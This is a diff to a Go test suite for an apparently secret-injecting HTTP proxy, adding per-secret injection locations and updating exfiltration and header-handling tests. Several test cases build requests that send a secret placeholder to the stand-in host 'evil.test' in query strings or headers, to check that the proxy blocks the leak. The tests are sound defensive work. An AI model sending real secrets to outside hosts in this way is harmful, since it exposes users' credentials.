@@ -31,10 +31,13 @@ const (
 	valLone = "lonely-real-value-55"
 )
 
+// everywhere is every place a value can be injected.
+var everywhere = []string{"header", "query", "path", "body"}
+
 func testSecrets() []Secret {
 	return []Secret{
-		{Name: "API_KEY", Placeholder: phKey, Value: valKey, Hosts: []string{"api.test", "plain.test:80"}},
-		{Name: "OTHER_TOKEN", Placeholder: phTok, Value: valTok, Hosts: []string{"*.other.test"}},
+		{Name: "API_KEY", Placeholder: phKey, Value: valKey, Hosts: []string{"api.test", "plain.test:80"}, Inject: everywhere},
+		{Name: "OTHER_TOKEN", Placeholder: phTok, Value: valTok, Hosts: []string{"*.other.test"}, Inject: everywhere},
 		{Name: "LONELY_SECRET", Placeholder: phLone, Value: valLone},
 	}
 }
@@ -348,7 +351,7 @@ func TestSecretExfiltration(t *testing.T) {
 			r.Header.Set("x-api-key", phKey)
 			return r
 		}},
-		{"query", "evil.test", "", "URL", func(h string) *http.Request {
+		{"query", "evil.test", "", "URL query parameter k", func(h string) *http.Request {
 			r, _ := http.NewRequest("GET", "https://"+h+"/q?k="+phKey, nil)
 			return r
 		}},
@@ -374,7 +377,7 @@ func TestSecretExfiltration(t *testing.T) {
 			r.Header.Set("Authorization", "Bearer "+phKey)
 			return r
 		}},
-		{"plain HTTP", "evil.test", "", "URL", func(h string) *http.Request {
+		{"plain HTTP", "evil.test", "", "URL query parameter k", func(h string) *http.Request {
 			r, _ := http.NewRequest("GET", "http://"+h+"/p?k="+phKey, nil)
 			return r
 		}},
@@ -444,7 +447,7 @@ func TestSecretHeaderLineBreak(t *testing.T) {
 	up := newUpstream(t, nil, nil)
 	e := newEnv(t, Config{
 		Rules:   Rules{Allow: []string{"crlf.test"}, Hosts: map[string]string{"crlf.test": up.addr()}},
-		Secrets: []Secret{{Name: "CRLF_KEY", Placeholder: ph, Value: val, Hosts: []string{"crlf.test"}}},
+		Secrets: []Secret{{Name: "CRLF_KEY", Placeholder: ph, Value: val, Hosts: []string{"crlf.test"}, Inject: everywhere}},
 	})
 	c := e.client()
 	req, _ := http.NewRequest("GET", "http://crlf.test/header", nil)
@@ -560,7 +563,9 @@ func TestSecretsUntouched(t *testing.T) {
 	f.evil.mu.Lock()
 	last, body := f.evil.last, f.evil.body
 	f.evil.mu.Unlock()
-	for k, want := range map[string]string{"Content-Type": "application/json", "X-Custom": "a, b;  c", "Accept-Encoding": "br, zstd",
+	// Accept-Encoding keeps only what the proxy can decode to redact a
+	// response: br and zstd go.
+	for k, want := range map[string]string{"Content-Type": "application/json", "X-Custom": "a, b;  c", "Accept-Encoding": "",
 		"Authorization": req.Header.Get("Authorization")} {
 		if got := last.Header.Get(k); got != want {
 			t.Errorf("%s: %q, want %q", k, got, want)
